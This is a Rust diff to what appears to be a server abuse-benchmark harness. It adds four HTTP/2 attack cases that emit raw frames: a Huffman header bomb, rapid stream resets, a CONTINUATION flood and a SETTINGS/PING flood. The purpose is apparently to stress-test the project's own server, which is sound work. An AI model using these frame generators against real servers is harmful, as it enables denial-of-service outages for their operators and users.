@@ -49,7 +49,23 @@ pub enum Case {
     HalfHandshakes,
     /// Subscriptions dropped right after the request, before any answer is read.
     AbruptDisconnects,
+    /// HTTP/2 (TLS only): 16 KB header blocks of empty Huffman strings, 20 a connection.
+    H2HuffmanBomb,
+    /// HTTP/2 (TLS only): subscriptions opened and reset at once, 1,000 a connection.
+    H2RapidReset,
+    /// HTTP/2 (TLS only): a header block continued in 1 KB CONTINUATION frames forever.
+    H2ContinuationFlood,
+    /// HTTP/2 (TLS only): SETTINGS and PING frames, 2,000 each a connection.
+    H2ControlFlood,
 }
+
+/// The HTTP/2 cases, run when the scenario speaks TLS (`bench abuse --tls`).
+pub const H2_CASES: [Case; 4] = [
+    Case::H2HuffmanBomb,
+    Case::H2RapidReset,
+    Case::H2ContinuationFlood,
+    Case::H2ControlFlood,
+];
 
 pub const CASES: [Case; 8] = [
     Case::SlowReaders,
@@ -137,20 +153,37 @@ impl Drop for Abusers {
 /// The child: runs `cases` against `addr` (over TLS trusting `ca` if given) until
 /// stdin closes, then prints [`Done`].
 pub fn run_child(addr: SocketAddr, cases: &[Case], ca: Option<PathBuf>) -> anyhow::Result<()> {
-    let dialer = match ca {
-        Some(ca) => Dialer::new(&format!("https://{addr}"), &tls::Roots::CaFile(ca))?,
-        None => Dialer::new(&format!("http://{addr}"), &tls::Roots::System)?,
+    let (dialer, h2) = match ca {
+        Some(ca) => {
+            let roots = tls::Roots::CaFile(ca);
+            let url = format!("https://{addr}");
+            (
+                Dialer::new(&url, &roots)?,
+                Some(Dialer::with_alpn(&url, &roots, &[tls::Alpn::H2])?),
+            )
+        }
+        None => (
+            Dialer::new(&format!("http://{addr}"), &tls::Roots::System)?,
+            None,
+        ),
     };
     let stop = Arc::new(AtomicBool::new(false));
     let counters: Vec<Arc<AtomicU64>> = cases.iter().map(|_| Arc::default()).collect();
-    let threads: Vec<_> = cases
+    let threads: Vec<std::thread::JoinHandle<()>> = cases
         .iter()
         .zip(&counters)
         .map(|(&case, done)| {
-            let (stop, done, dialer) = (stop.clone(), done.clone(), dialer.clone());
-            std::thread::spawn(move || abuser(case, &dialer, &stop, &done))
+            let (stop, done) = (stop.clone(), done.clone());
+            let dialer = match (h2::is_h2(case), &h2) {
+                (true, Some(h2)) => h2.clone(),
+                (true, None) => return Err(anyhow::anyhow!("{case:?} needs TLS (--tls)")),
+                (false, _) => dialer.clone(),
+            };
+            Ok(std::thread::spawn(move || {
+                abuser(case, &dialer, &stop, &done)
+            }))
         })
-        .collect();
+        .collect::<anyhow::Result<_>>()?;
     // EOF (the scenario closed the pipe or died) ends the phase.
     let mut sink = Vec::new();
     let _ = std::io::stdin().read_to_end(&mut sink);
@@ -324,6 +357,72 @@ fn attack(case: Case, addr: &Dialer, round: u64, stop: &AtomicBool) -> std::io::
                 drop(s);
             }
         }
+        h2_case => {
+            let mut s = connect(addr)?;
+            s.write_all(&h2::attack(h2_case, user))?;
+            drain(&mut s);
+        }
     }
     Ok(())
+}
+
+/// The HTTP/2 cases' bytes: raw frames, each attack written whole after the preface.
+mod h2 {
+    use super::Case;
+
+    pub fn is_h2(case: Case) -> bool {
+        super::H2_CASES.contains(&case)
+    }
+
+    fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+        out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+        out.extend_from_slice(&[kind, flags]);
+        out.extend_from_slice(&stream.to_be_bytes());
+        out.extend_from_slice(payload);
+    }
+
+    /// `GET path` as a header block: a table size update to 0 (what our SETTINGS asks),
+    /// `:method GET`, `:scheme https` (static), `:authority` and `:path` literals.
+    fn get(path: &str) -> Vec<u8> {
+        let mut b = vec![0x20, 0x82, 0x87, 0x01, 1, b'a', 0x04, path.len() as u8];
+        b.extend_from_slice(path.as_bytes());
+        b
+    }
+
+    pub fn attack(case: Case, user: u64) -> Vec<u8> {
+        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+        frame(&mut out, 4, 0, 0, &[]);
+        frame(&mut out, 4, 1, 0, &[]);
+        match case {
+            Case::H2HuffmanBomb => {
+                let mut bomb = vec![0x20];
+                bomb.extend_from_slice(&b"\x00\x80\x80".repeat(5460));
+                for i in 0..20 {
+                    frame(&mut out, 1, 0x5, 1 + 2 * i, &bomb);
+                }
+            }
+            Case::H2RapidReset => {
+                for i in 0..1000u32 {
+                    let block = get(&format!("/sse/{}", user + u64::from(i % 16)));
+                    frame(&mut out, 1, 0x5, 1 + 2 * i, &block);
+                    frame(&mut out, 3, 0, 1 + 2 * i, &8u32.to_be_bytes());
+                }
+            }
+            Case::H2ContinuationFlood => {
+                frame(&mut out, 1, 0, 1, &get(&format!("/sse/{user}")));
+                let piece = b"\x40\x01a\x01b".repeat(200);
+                for _ in 0..100 {
+                    frame(&mut out, 9, 0, 1, &piece);
+                }
+            }
+            Case::H2ControlFlood => {
+                for _ in 0..2000 {
+                    frame(&mut out, 4, 0, 0, &[]);
+                    frame(&mut out, 6, 0, 0, b"abusive!");
+                }
+            }
+            _ => unreachable!("only the HTTP/2 cases"),
+        }
+        out
+    }
 }
